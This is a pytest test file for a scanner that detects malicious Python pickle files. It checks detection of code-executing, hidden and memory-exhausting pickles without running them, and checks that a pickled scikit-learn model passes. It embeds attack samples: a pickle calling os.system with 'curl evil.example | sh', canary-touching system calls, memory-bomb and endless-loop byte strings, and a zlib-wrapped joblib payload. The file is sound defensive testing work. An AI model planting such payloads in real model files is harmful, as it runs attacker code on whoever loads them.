"""Pickles that execute, hide, or bomb memory: each is found, none runs; healthy ones are left alone."""

import pickle
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from sklearn.linear_model import LogisticRegression

from lastgood.api.names import Severity
from lastgood.verify.scan import Policy, ScanLimits, ScanResult, ScanVerdict, scan
from lastgood.verify.scan.pickles import sandbox
from tests.unit.verify.scan import samples

Scanned = Callable[..., ScanResult]
HARMFUL = sorted(samples.harmful(Path("/canary")))
HARMLESS = sorted(samples.harmless())
# What no loader of today runs, or what only exhausts memory: a person should look, and does.
ANOMALIES = {"in a tar.gz", "bzip2", "memory: a number that allocates"}
ALONE = {"pickle-import", "pickle-extension", "pickle-limits", "pickle-persistent-id", "polyglot"}


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    return tmp_path / "canary"


@pytest.mark.parametrize("name", HARMFUL)
def test_harmful_pickle_is_found_and_never_runs(name: str, scanned: Scanned, canary: Path) -> None:
    file, data = samples.harmful(canary)[name]
    result = scanned({file: data})
    expected = ScanVerdict.ANOMALY if name in ANOMALIES else ScanVerdict.FINDING
    assert result.verdict is expected, result
    assert not canary.exists()
    assert all(len(found.evidence) <= 200 and found.evidence.isprintable() for found in result.findings)


@pytest.mark.parametrize("name", sorted(set(HARMFUL) - ANOMALIES))
def test_harmful_pickle_is_grave_enough_for_a_pipeline_to_stop(name: str, scanned: Scanned, canary: Path) -> None:
    file, data = samples.harmful(canary)[name]
    assert {found.rule for found in scanned({file: data}).at_least(Severity.HIGH)} & {
        *ALONE, "pickle-broken", "zip-broken", "zip-mismatch", "format-mismatch",
    }  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_healthy_file_is_left_alone(name: str, scanned: Scanned) -> None:
    file, data = samples.harmless()[name]
    result = scanned({file: data})
    assert (result.verdict, result.findings) == (ScanVerdict.NO_FINDING, ())


def test_there_are_enough_attacks() -> None:
    assert len(HARMFUL) > 60
    assert len(HARMLESS) > 20


def test_canary_would_fire_if_something_were_loaded(canary: Path) -> None:
    pickle.loads(samples.harmful(canary)["os.system"][1])  # noqa: S301 - the attack is our own, and proves that the others are attacks
    assert canary.exists()


def test_safetensors_that_is_a_pickle_too_is_valid_for_both(canary: Path) -> None:
    from safetensors.numpy import load  # noqa: PLC0415 - only this test needs it

    data = samples.harmful(canary)["safetensors and a pickle"][1]
    assert load(data).keys() == {"t"}
    pickle.loads(data)  # noqa: S301 - as above
    assert canary.exists()


def test_evidence_says_what_would_have_been_called(scanned: Scanned) -> None:
    found = scanned({"a.pkl": samples.named("os", "system", "curl evil.example | sh")}).findings[0]
    assert (found.severity, found.rule, found.file) == (Severity.CRITICAL, "pickle-import", "a.pkl")
    assert found.evidence == "os.system('curl evil.example | sh',)"


def test_member_of_an_archive_is_named(scanned: Scanned) -> None:
    result = scanned({"m.pt": samples.zipped({"m/data.pkl": samples.named("os", "system", "x")})})
    assert result.findings[0].file == "m.pt!m/data.pkl"


@pytest.fixture(scope="module")
def model() -> bytes:
    """A real classifier, as people pickle it."""
    rng = np.random.default_rng(1)
    values = rng.normal(size=(50, 4))
    return pickle.dumps(LogisticRegression().fit(values, values[:, 0] > 0))


def test_class_of_a_library_is_asked_for_and_not_assumed(scanned: Scanned, model: bytes) -> None:
    result = scanned({"model.pkl": model})
    assert [found.evidence.split("(")[0] for found in result.findings] == [
        "sklearn.linear_model._logistic.LogisticRegression"
    ]


LOGISTIC = "sklearn.linear_model._logistic.LogisticRegression"


def test_class_that_the_policy_allows_is_no_finding(scanned: Scanned, model: bytes) -> None:
    result = scanned({"model.pkl": model}, policy=Policy(imports=frozenset({LOGISTIC})))
    assert result.verdict is ScanVerdict.NO_FINDING


def test_payload_in_a_real_model_is_found_though_its_class_is_allowed(
    scanned: Scanned, model: bytes, canary: Path
) -> None:
    attacked = model[:-1] + b"0" + samples.named("posix", "system", f"touch {canary}")[2:]
    result = scanned({"model.pkl": attacked}, policy=Policy(imports=frozenset({LOGISTIC})))
    assert [found.evidence.split("(")[0] for found in result.findings] == ["posix.system"]
    assert not canary.exists()


def test_large_payload_of_numbers_is_read_within_bounds(scanned: Scanned) -> None:
    data = pickle.dumps(np.zeros(30_000_000), protocol=4)  # 240 MB, of which nothing is touched
    result = scanned({"a.pkl": data})
    assert (result.verdict, result.findings) == (ScanVerdict.NO_FINDING, ())


def test_second_pickle_after_a_large_payload_is_found(scanned: Scanned) -> None:
    data = pickle.dumps(np.zeros(1_000_000), protocol=4) + samples.named("os", "system", "x")
    assert scanned({"a.pkl": data}).findings[0].rule == "pickle-import"


def test_frame_that_is_too_large_is_not_passed_over(scanned: Scanned) -> None:
    data = b"\x80\x04\x95" + (2**24).to_bytes(8, "little") + b"N" * (2**24 - 1) + b"."
    assert scanned({"a.pkl": data}).findings[0].rule == "pickle-limits"


def test_memory_bomb_in_a_large_file_is_killed(scanned: Scanned) -> None:
    # A large payload first: it raises the limit on address space, and what comes then fills it.
    data = b"\x80\x04\x8e" + (2**29).to_bytes(8, "little") + b"\0" * 2**20
    bomb = data + b"\0" * (2**29 - 2**20) + b"0" + b"\x8f" * 4_000_000 + b"."
    assert scanned({"a.pkl": bomb}).findings[0].rule == "pickle-limits"


def test_endless_work_ends(scanned: Scanned) -> None:
    data = b"\x80\x02" + b"(lp0\n" + b"g0\na" * 3_000_000 + b"."  # millions of steps
    started = time.monotonic()
    scanned({"a.pkl": data}, limits=ScanLimits(pickle_seconds=1.0))
    assert time.monotonic() - started < 120


def test_stop_kills_the_child(checkpoint: Path) -> None:
    (checkpoint / "a.pkl").write_bytes(b"\x80\x02(lp0\n" + b"g0\na" * 5_000_000 + b".")
    stopped = threading.Event()
    threading.Timer(0.3, stopped.set).start()
    result = scan(checkpoint, cancelled=stopped.is_set)
    assert result.verdict is ScanVerdict.UNREADABLE
    assert "stopped" in result.message


def child(tmp_path: Path, data: bytes, *, before: str = "") -> "subprocess.CompletedProcess[bytes]":
    """Run the child by itself, with a line of code before it."""
    (tmp_path / "a.pkl").write_bytes(data)
    reader = Path(sandbox.__file__).with_name("reader")
    path = f"import sys; sys.argv = ['x', *sys.argv[1:]]; sys.path.insert(0, {str(reader)!r})"
    code = f"{path}\nsource = open({str(reader / '__main__.py')!r}).read()\n{before}\nexec(source)"
    with (tmp_path / "a.pkl").open("rb") as file:
        place = [str(file.fileno()), "0", str(len(data)), "0", str(2**26), "5", "stored"]
        return subprocess.run(
            [sys.executable, "-I", "-S", "-c", code, *place], pass_fds=[file.fileno()], capture_output=True, check=False
        )


def test_child_that_is_made_to_run_something_is_stopped_by_its_own_guard(tmp_path: Path, canary: Path) -> None:
    """Second line of defence: were the stubs gone, the audit hook would still refuse."""
    gone = "source = source.replace('def find_class', 'def find_no_class')"
    data = samples.named("posix", "system", f"touch {canary}")
    answer = child(tmp_path, data, before=gone)
    assert answer.returncode == 4, answer
    assert b'"escaped"' in answer.stdout
    assert not canary.exists()


def test_child_answers_when_nothing_is_changed(tmp_path: Path) -> None:
    assert b'"imports": [["os", "system"]]' in child(tmp_path, samples.named("os", "system", "x")).stdout


def test_nothing_of_the_caller_is_left_to_the_child(checkpoint: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PYTHONPATH", str(checkpoint))
    monkeypatch.setenv("PYTHONSTARTUP", str(checkpoint / "evil.py"))
    (checkpoint / "pickle.py").write_text("raise SystemExit('imported')")
    (checkpoint / "a.pkl").write_bytes(pickle.dumps(1))
    monkeypatch.chdir(checkpoint)
    assert {found.rule for found in scan(checkpoint).findings} == {"code-file"}


@pytest.mark.parametrize("blank", [b"", b" "])
def test_pickle_behind_the_header_of_an_old_joblib_is_found(scanned: Callable[..., ScanResult], blank: bytes) -> None:
    """Joblib reads a length of 19 characters, passes over one blank, and unpacks what follows with zlib."""
    evil = samples.named("os", "system", "id")
    for level in (1, 9):
        data = b"ZF" + hex(len(evil)).encode().ljust(19) + blank + zlib.compress(evil, level)
        for name in ("model.bin", "model.pkl"):
            assert "pickle-import" in {row.rule for row in scanned({name: data}).findings}
